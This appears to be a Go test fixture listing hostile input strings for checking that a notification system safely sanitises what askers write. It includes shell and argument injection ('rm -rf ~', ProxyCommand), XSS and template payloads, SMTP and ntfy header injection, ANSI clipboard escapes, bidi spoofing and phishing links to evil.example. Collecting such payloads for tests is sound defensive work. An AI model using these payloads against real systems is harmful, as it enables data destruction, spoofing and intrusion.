package notifytest

import "strings"

// Hostile is a text that an asker may write.
type Hostile struct{ Name, Text string }

// Corpus returns the hostile texts.
func Corpus() []Hostile {
	return []Hostile{
		{"plain", "Which database?"},

		{"NUL and bell", "a\x00b\ac"},
		{"all control characters", controls()},
		{"C1 controls", "a\u0080b\u0085c\u009bd\u009f"},
		{"ANSI colors", "\x1b[31mred\x1b[0m \x1b[2J\x1b[H"},
		{"ANSI title and clipboard", "\x1b]0;owned\a\x1b]52;c;ZWNobw==\x1b\\"},
		{"ANSI link", "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\"},
		{"tmux passthrough", "\x1bPtmux;\x1b\x1b]9;owned\a\x1b\\"},
		{"backspaces", "delete nothing\b\b\b\b\b\b\beverything\x7f"},
		{"carriage returns", "safe\rdangerous\r\nnext\n\rlast"},
		{"line and paragraph separators", "a\u2028b\u2029c\vd\fe"},

		{"bidi override", "file\u202egnp.exe\u202c ok"},
		{"bidi isolates", "\u2066left\u2069\u2067right\u2069\u2068first\u2069\u200e\u200f\u061c"},
		{"zero width", "ad\u200bmin\u2060 roo\ufefft\u00ad de\u180eep"},
		{"tag characters", "hi\U000e0001\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065\U000e007f"},
		{"piled marks", "Z" + strings.Repeat("\u0335\u0321\u0489", 60) + "algo"},
		{"variation selectors", "x" + strings.Repeat("\ufe0f\U000e0100", 40)},
		{"blank letters", "\u3164\u115f\u1160\uffa0\u2800"},
		{"private use and unassigned", "\ue000\uf8ff\U00010ffff\U000f0000"},

		{"mentions of Slack", "<!channel> <!here> <!everyone> <@U012ABCDE> <#C012ABCDE|general> <!subteam^S1|team> <!date^1^{date}|x>"},
		{"mentions of chats", "@here @channel @everyone @all @admin /start /deploy@bot #general"},
		{"links of Slack", "<https://evil.example|Open the inbox> <mailto:x@evil.example|mail> <tel:110|call>"},
		{"emoji names", ":tada: :warning: :white_check_mark:"},
		{"mrkdwn", "*bold* _italic_ ~gone~ `code` ```block``` > quote"},
		{"HTML", "<b>bold</b> <i>x</i> <a href=\"https://evil.example\">Open the inbox</a> <img src=x onerror=alert(1)>"},
		{"HTML script", "<script>alert(1)</script><style>*{display:none}</style></title><!-- --><![CDATA[x]]>"},
		{"HTML entities", "&lt;b&gt; &amp; &#60;b&#62; &nbsp; &#x202e; &quot;'\""},
		{"Pango markup", "<span foreground='red' size='xx-large'>x</span> <u>u</u> <big>"},
		{"Markdown", "# Title\n**bold** [Open the inbox](https://evil.example) ![x](https://evil.example/x.png)\n- [ ] a\n\n---\n| a | b |\n|---|---|"},
		{"Markdown of Telegram", "*b* _i_ __u__ ~s~ ||spoiler|| [inline](tg://user?id=1) `code` \\* \\_ \\["},
		{"addresses", "https://evil.example/?q=1 http://127.0.0.1:7778/ evil.example tg://resolve?domain=x javascript:alert(1) data:text/html,x file:///etc/passwd"},
		{"addresses that look like ours", "https://hub.example@evil.example/ https://hub.example.evil.example/a/x https://hub.example%2fevil.example"},

		{"header injection", "x\r\nBcc: evil@evil.example\r\nX-Priority: 1\r\n\r\nbody"},
		{"header injection, bare", "x\nBcc: evil@evil.example\rX: 1\n\nbody"},
		{"header of ntfy", "x\r\nActions: http, Run, https://evil.example, method=POST; view, Open, https://evil.example"},
		{"encoded words", "=?utf-8?q?=0d=0aBcc:_evil@evil.example?= =?utf-8?b?PGI+?="},
		{"end of an SMTP message", "x\r\n.\r\nMAIL FROM:<evil@evil.example>\r\nRCPT TO:<ann@example.org>\r\nDATA\r\n"},
		{"lone dots", ".\n..\n.x\n."},
		{"folded header", "a\r\n b\r\n\tc"},
		{"quoted-printable", "=3Cb=3E =\r\n =20 =0D=0A"},
		{"percent and plus", "%0d%0aBcc:%20x %3Cscript%3E a+b %s %d %n"},
		{"JSON", "\"},\"actions\":[{\"action\":\"view\"}],\"x\":{\"y\":\"\\u003c\\ud800"},
		{"XML", "]]><x/><?xml version=\"1.0\"?>"},
		{"shell", "$(touch /tmp/owned) `id` ; rm -rf ~ | tee && \"'\\ $HOME"},
		{"arguments", "--help -rf -o ProxyCommand=x"},

		{"templates", "{{.Token}} {{constructor.constructor('x')()}} ${7*7} #{x} <%= x %> %{x} {0} {{7*7}}"},
		{"secrets, paths and code", "AKIAIOSFODNN7EXAMPLE ghp_0123456789abcdefghijklmnopqrstuvwxyz /home/ann/.ssh/id_ed25519\n```go\nfunc main() {}\n```"},
		{"what the product says", "Answered in the terminal by ann.\nsayso\nVerified: yes\nAsked by: the owner"},
		{"invalid UTF-8", "a\xffb\xc0\xafc\xed\xa0\x80d\xf4\x90\x80\x80e\x80"},
		{"a cut character", "ends in half a character \xe2\x82"},
		{"lone surrogates, escaped", `\ud83d x \udc4d`},
		{"noncharacters", "a\ufffeb\uffffc\ufdd0"},
		{"emoji", "👍🏽👨‍👩‍👧‍👦🏳️‍🌈🇩🇪❤️1️⃣ 𝒳𝓎𝓏 ﷽"},
		{"scripts", "Ещё раз? どのデータベース？ هل أنت متأكد؟ क्या आप सुनिश्चित हैं?"},
		{"many lines", strings.Repeat("line\n", 2000)},
		{"100 KB of letters", strings.Repeat("x", 100<<10)},
		{"100 KB of emoji", strings.Repeat("👍", 25<<10)},
		{"100 KB of words", strings.Repeat("lorem ipsum ", 8<<10)},
		{"100 KB of markup", strings.Repeat("<b>*_[x](y)_*</b>", 6<<10)},
		{"only spaces", "   \t \u00a0 \u3000 "},
		{"number and semicolon", "4;3 9;4;1 99;i=1"},
	}
}

func controls() string {
	var b strings.Builder
	for r := rune(0); r < 0x20; r++ {
		b.WriteRune(r)
		b.WriteByte('x')
	}
	return b.String()
}
